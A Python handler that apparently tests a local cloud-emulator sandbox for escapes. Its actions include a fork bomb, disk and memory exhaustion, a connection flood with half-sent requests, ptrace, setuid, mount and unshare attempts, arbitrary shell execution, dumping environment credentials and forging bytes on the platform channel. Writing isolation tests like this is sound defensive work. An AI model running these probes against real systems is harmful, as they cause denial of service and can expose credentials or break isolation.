"""One attempt to get out at a time: what it tried, and what came of it."""
import ctypes
import errno
import os
import socket
import subprocess
import tempfile

libc = ctypes.CDLL(None, use_errno=True)
TMP = tempfile.gettempdir()
ENDPOINT = int(os.environ["AWS_ENDPOINT_URL"].rsplit(":", 1)[1])


def system_call(number, *arguments):
    result = libc.syscall(number, *arguments)
    return "done" if result >= 0 else errno.errorcode[ctypes.get_errno()]


def attempt(function):
    try:
        return function()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
    except MemoryError:
        return "MemoryError"


def read(path):
    return attempt(lambda: open(path, "rb").read(64).decode(errors="replace"))


def listing(path):
    return attempt(lambda: sorted(os.listdir(path)))


def write(path):
    def go():
        with open(path, "w") as file:
            file.write("x")
        return "done"
    return attempt(go)


def connect(host, port):
    def go():
        with socket.create_connection((host, port), timeout=2):
            return "connected"
    return attempt(go)


def abstract(name):
    def go():
        with socket.socket(socket.AF_UNIX) as unix:
            unix.connect("\0" + name)
            return "connected"
    return attempt(go)


def fork_bomb(count):
    made, failed = [], None
    for _ in range(count):
        try:
            child = os.fork()
        except OSError as error:
            failed = errno.errorcode[error.errno]
            break
        if child == 0:
            libc.pause()
            os._exit(0)
        made.append(child)
    for child in made:
        os.kill(child, 9)
        os.waitpid(child, 0)
    return {"made": len(made), "failed": failed}


def fill_tmp(megabytes):
    def go():
        block = bytes(1024 * 1024)
        with open(TMP + "/fill", "wb") as file:
            for _ in range(megabytes):
                file.write(block)
        return "done"
    try:
        return attempt(go)
    finally:
        attempt(lambda: os.unlink(TMP + "/fill"))


def open_socket(family, kind, protocol):
    def go():
        socket.socket(family, kind, protocol).close()
        return "opened"
    return attempt(go)


def connections(count):
    """Half a request on each of as many connections as the platform serves at once."""
    held = []
    try:
        for _ in range(count):
            try:
                one = socket.create_connection(("127.0.0.1", ENDPOINT), timeout=1)
            except OSError:
                break  # The kernel's queue is full, too.
            held.append(one)
            one.sendall(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 90000\r\n"
                        b"Expect: 100-continue\r\n\r\n")
        answered = 0
        for one in held:
            one.settimeout(0.2 if answered >= 100 else 5)
            try:
                answered += bool(one.recv(64))
            except socket.timeout:
                break
        return answered
    finally:
        for one in held:
            one.close()


def who_am_i(**keys):
    import boto3
    import botocore.exceptions
    client = boto3.client("sts", **keys)
    try:
        return client.get_caller_identity()["Arn"]
    except botocore.exceptions.ClientError as error:
        return error.response["Error"]["Code"]


def forge(frame):
    """Bytes on the channel to the platform, in place of the reply."""
    os.write(255, bytes.fromhex(frame))
    return "forged"


def dig(levels):
    os.chdir(TMP)
    for _ in range(levels):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/")
    return attempt(lambda: os.chmod(TMP + "/d/d", 0) or "done")


def status():
    with open("/proc/self/status") as file:
        lines = [line.partition(":") for line in file]
    return {name: value.strip() for name, _, value in lines}


def handler(event, context):
    what, arguments = event["what"], event.get("with", [])
    actions = {
        "read": read, "list": listing, "write": write, "connect": connect, "abstract": abstract,
        "fork": fork_bomb, "tmp": fill_tmp, "status": status, "syscall": system_call,
        "kill": lambda pid, signal: attempt(lambda: os.kill(pid, signal) or "done"),
        "allocate": lambda gigabytes: attempt(
            lambda: len(bytearray(gigabytes << 30)) and "done"),
        "pids": lambda: attempt(
            lambda: [int(name) for name in os.listdir("/proc") if name.isdigit()]),
        "listen": lambda: attempt(lambda: socket.create_server(("", 0)) and "listened"),
        "place": lambda: {"tmp": TMP, "endpoint": ENDPOINT},
        "environment": lambda: dict(os.environ),
        "mounts": lambda: read("/proc/self/mounts") and open("/proc/self/mounts").read(),
        "descriptors": lambda: {fd: attempt(lambda: os.readlink(f"/proc/self/fd/{fd}"))
                                for fd in os.listdir("/proc/self/fd")},
        "mount": lambda: "done" if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
        else errno.errorcode[ctypes.get_errno()],
        "ptrace": lambda: "done" if libc.ptrace(16, os.getppid() or 1, 0, 0) == 0
        else errno.errorcode[ctypes.get_errno()],
        "unshare": lambda flags: "done" if libc.unshare(flags) == 0
        else errno.errorcode[ctypes.get_errno()],
        "setuid": lambda: attempt(lambda: os.setuid(0) or f"uid {os.getuid()}"),
        "shell": lambda command: subprocess.run(
            command, shell=True, capture_output=True, text=True, timeout=10).stdout,
        "ping": lambda: "pong",
        "socket": open_socket, "connections": connections, "forge": forge, "dig": dig,
        "identity": lambda: who_am_i(),
        "administrator": lambda: who_am_i(aws_access_key_id="test", aws_secret_access_key="test"),
        "forged token": lambda: who_am_i(
            aws_access_key_id=os.environ["AWS_ACCESS_KEY_ID"],
            aws_secret_access_key=os.environ["AWS_SECRET_ACCESS_KEY"],
            aws_session_token=os.environ["AWS_SESSION_TOKEN"].swapcase()),
        "print": lambda text: print(text),
        "exit": lambda: os._exit(1),
    }
    return actions[what](*arguments)
